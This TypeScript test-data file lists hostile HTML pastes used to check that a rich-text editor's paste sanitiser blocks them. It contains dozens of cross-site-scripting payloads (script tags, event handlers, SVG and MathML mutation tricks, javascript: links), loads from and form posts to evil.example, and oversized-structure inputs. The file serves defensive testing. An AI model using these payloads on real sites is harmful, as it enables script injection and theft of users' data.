/** Test data: HTML that tries to run something when pasted. Success sets the global `ran` or calls evil.example. */
import { hostileAddresses } from '#contract/rich-text.hostile.ts';

export interface HostilePaste {
  name: string;
  html: string;
  /** A page that inserted this HTML would run it: proof that the tests would notice. */
  runs?: true;
}

const slice = (context: unknown, inner = 'x') =>
  `<p data-pm-slice='1 1 ${JSON.stringify(context).replaceAll("'", '&#39;')}'>${inner}</p>`;

export const hostilePastes: HostilePaste[] = [
  { name: 'a script', html: '<p>a</p><script>ran=1</script>', runs: true },
  { name: 'a script in a script', html: '<scr<script>ipt>ran=1</scr</script>ipt>' },
  { name: 'a script of another site', html: '<script src="https://evil.example/x.js"></script>a' },
  { name: 'a script module', html: '<script type="module">window.ran=1</script>a', runs: true },
  { name: 'a script without an end', html: 'a<script>ran=1' },
  { name: 'a script after a broken tag', html: '<p title="a><b">x</p><script>ran=1</script>', runs: true },
  { name: 'a script after a broken comment', html: '<!--><script>ran=1</script>-->', runs: true },
  {
    name: 'a script in no script',
    html: '<noscript><p title="</noscript><img src=x onerror=ran=1>">',
    runs: true,
  },
  { name: 'a picture that fails', html: '<img src=x onerror=ran=1>', runs: true },
  { name: 'a picture that fails, in capitals', html: '<IMG SRC=x ONERROR="ran=1">', runs: true },
  { name: 'a picture with slashes for spaces', html: '<img/src="x"/onerror=ran=1>', runs: true },
  { name: 'a picture with entities', html: '<img src=x onerror="&#114;&#97;n=1">', runs: true },
  { name: 'a picture with a quote too many', html: '<img """><script>ran=1</script>">', runs: true },
  { name: 'a picture of another site', html: '<img src="https://evil.example/pixel.gif">a' },
  { name: 'a srcset of another site', html: '<img srcset="https://evil.example/pixel.gif 1x">a' },
  { name: 'a picture without a protocol', html: '<img src="//evil.example/pixel.gif">a' },
  {
    name: 'a picture element',
    html: '<picture><source srcset="https://evil.example/x.webp"><img src=x></picture>',
  },
  { name: 'a drawing that loads', html: '<svg onload=ran=1></svg>', runs: true },
  { name: 'a drawing with a script', html: '<svg><script>ran=1</script></svg>', runs: true },
  {
    name: 'a drawing that moves',
    html: '<svg><animate onbegin=ran=1 attributeName=x dur=1s></svg>',
    runs: true,
  },
  {
    name: 'a drawing with a link',
    html: '<svg><a xlink:href="javascript:ran=1"><text y=20>x</text></a></svg>',
  },
  {
    name: 'a drawing that sets a link',
    html: '<svg><a><set attributeName=href to=javascript:ran=1 /><text>x</text></a></svg>',
  },
  {
    name: 'a drawing that uses another',
    html: '<svg><use href="data:image/svg+xml,<svg id=x onload=ran=1/>#x"></svg>',
  },
  {
    name: 'a drawing with HTML inside',
    html: '<svg><foreignObject><img src=x onerror=ran=1></foreignObject></svg>',
    runs: true,
  },
  { name: 'a formula with a link', html: '<math><mi xlink:href="javascript:ran=1">x</mi></math>' },
  {
    name: 'a formula that hides a style',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=ran=1></style></mglyph></table></mtext></math>',
  },
  {
    name: 'a mutation in a formula',
    html: '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=ran=1 src>">',
  },
  { name: 'a frame', html: '<iframe src="javascript:parent.ran=1"></iframe>a', runs: true },
  {
    name: 'a frame with its document',
    html: '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>a',
    runs: true,
  },
  { name: 'a frame of another site', html: '<iframe src="https://evil.example/"></iframe>a' },
  {
    name: 'an object',
    html: '<object data="javascript:ran=1"></object><object data="https://evil.example/x"></object>a',
  },
  { name: 'an embedded file', html: '<embed src="https://evil.example/x.swf">a' },
  {
    name: 'a video',
    html: '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" autoplay onloadstart=ran=1></video>a',
    runs: true,
  },
  { name: 'a sound that fails', html: '<audio src=x onerror=ran=1></audio>a', runs: true },
  { name: 'details that open', html: '<details open ontoggle=ran=1>x</details>', runs: true },
  { name: 'a field that takes the focus', html: '<input autofocus onfocus=ran=1>', runs: true },
  { name: 'a body that loads', html: '<body onload=ran=1><p>a</p></body>', runs: true },
  { name: 'a marquee', html: '<marquee onstart=ran=1>x</marquee>' },
  {
    name: 'a button with an action',
    html: '<form id=f></form><button form=f formaction="javascript:ran=1">x</button>',
  },
  {
    name: 'a form to another site',
    html: '<form action="https://evil.example/"><input name=a><button>Sign in</button></form>',
  },
  {
    name: 'a press on a paragraph',
    html: '<p onclick="ran=1" onpointerenter="ran=1" style="position:fixed;inset:0">x</p>',
  },
  {
    name: 'an animation that ends',
    html: '<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationend=ran=1>x</p>',
    runs: true,
  },
  { name: 'a style that imports', html: '<style>@import url(https://evil.example/x.css);</style>a' },
  { name: 'a style of another site', html: '<link rel=stylesheet href="https://evil.example/x.css">a' },
  { name: 'a style with a picture', html: '<p style="background:url(https://evil.example/x)">a</p>' },
  {
    name: 'a style that covers the page',
    html: '<style>*{display:none}</style><div style="position:fixed;inset:0;z-index:9">a</div>',
  },
  {
    name: 'a font of another site',
    html: '<style>@font-face{font-family:x;src:url(https://evil.example/f)}p{font-family:x}</style><p>a',
  },
  {
    name: 'preloading',
    html: '<link rel=preload as=image href="https://evil.example/x"><link rel=dns-prefetch href="//evil.example">a',
  },
  { name: 'a refresh', html: '<meta http-equiv=refresh content="0;url=https://evil.example/">a' },
  {
    name: 'a refresh behind the start',
    html: '<p>a</p><meta http-equiv="refresh" content="0;url=javascript:ran=1">',
  },
  { name: 'a policy', html: '<p>a</p><meta http-equiv="Content-Security-Policy" content="default-src *">' },
  { name: 'a base', html: '<base href="https://evil.example/"><a href="/x">x</a>' },
  { name: 'a template', html: '<template><img src=x onerror=ran=1></template>a' },
  {
    name: 'a shadow',
    html: '<div><template shadowrootmode=open><img src=x onerror=ran=1></template></div>a',
  },
  { name: 'a dialog', html: '<dialog open><a href="javascript:ran=1">x</a></dialog>' },
  { name: 'a custom element', html: '<x-a onclick=ran=1 contenteditable>x</x-a>' },
  { name: 'a text area', html: '<textarea><img src=x onerror=ran=1></textarea>a' },
  { name: 'a title', html: '<title><img src=x onerror=ran=1></title>a' },
  { name: 'old markup', html: '<xmp><img src=x onerror=ran=1></xmp><plaintext><img src=x onerror=ran=1>' },
  {
    name: 'a heading that names its level',
    html: '<h1 level="99">x</h1><h2 level="script">y</h2><h6>z</h6>',
  },
  {
    name: 'a cell that covers a thousand',
    html: '<table><tr><td colspan=1000 rowspan=65534 onclick=ran=1>x</td></tr><tr><td>y</td></tr></table>',
  },
  {
    name: 'a table in a table in a table',
    html: `${'<table><tr><td>'.repeat(30)}x${'</td></tr></table>'.repeat(30)}`,
  },
  {
    name: 'a table without cells',
    html: '<table></table><table><tr></tr></table><table><caption onclick=ran=1>x</caption></table>',
  },
  { name: 'lists without end', html: '<ul><li>x'.repeat(200) },
  { name: 'quotes without end', html: `${'<blockquote>'.repeat(300)}x` },
  {
    name: 'a list that is numbered by a script',
    html: '<ol start="ran=1" type="javascript:ran=1" reversed><li value="ran=1">x</li></ol>',
  },
  {
    name: 'a picture of ours that is none',
    html: `<figure data-picture='{"mediaId":1,"key":"../../x","width":1,"height":1,"alt":"a"}'><img src="https://evil.example/x"></figure>a`,
  },
  {
    name: 'a picture of ours with a handler',
    html: `<figure data-picture='{"mediaId":1,"key":"0123456789abcdef","width":9,"height":9,"alt":"a","onerror":"ran=1"}'></figure>a`,
  },
  {
    name: 'a picture of ours overwritten',
    html: `<figure key="x onerror=ran=1" width="x" alt="&quot; onerror=ran=1" data-picture='null'>a</figure>`,
  },
  {
    name: 'a context with a cell of a million',
    html: slice(['table', null, 'tableRow', null, 'tableCell', { colspan: 1e6, rowspan: 1e6 }]),
  },
  {
    name: 'a context with a heading of no level',
    html: slice(['heading', { level: 'script', onclick: 'ran=1' }]),
  },
  {
    name: 'a context that puts text into a picture',
    html: slice(['doc', null, 'image', { key: '../../x' }], '<script>ran=1</script>x'),
  },
  {
    name: 'a context of unknown nodes',
    html: slice(['script', { src: 'https://evil.example/x' }, 'constructor', null]),
  },
  { name: 'a context deeper than any text', html: slice(Array(20_000).fill(['blockquote', null]).flat()) },
  { name: 'a context that is no list', html: `<p data-pm-slice='99 99 {"length":1e9}'>x</p>` },
  {
    name: 'Word: a macro and its own markup',
    html: '<p class=MsoNormal><!--[if gte vml 1]><v:shape onload="ran=1"/><![endif]--><o:p>x</o:p><w:sdt>y</w:sdt></p>',
  },
  {
    name: 'Word: a list with a handler',
    html: `<p style='mso-list:l0 level1 lfo1' onclick=ran=1><span style='mso-list:Ignore'>·</span>x<img src=x onerror=ran=1></p>`,
  },
  {
    name: 'an entity for every letter',
    html: '&lt;script&gt;ran=1&lt;/script&gt;&#60;img src=x onerror=ran=1&#62;',
  },
  { name: 'control characters', html: '<p>a\u0000b\u000bc\u001bd\u0085e</p>' },
  { name: 'halves of characters', html: '<p>a\ud83db</p>' },
  ...hostileAddresses.map((address, index) => ({
    name: `a link where none may be led to, ${index + 1}`,
    html: `<a href="${address.replaceAll('"', '&quot;')}">x</a>`,
  })),
];
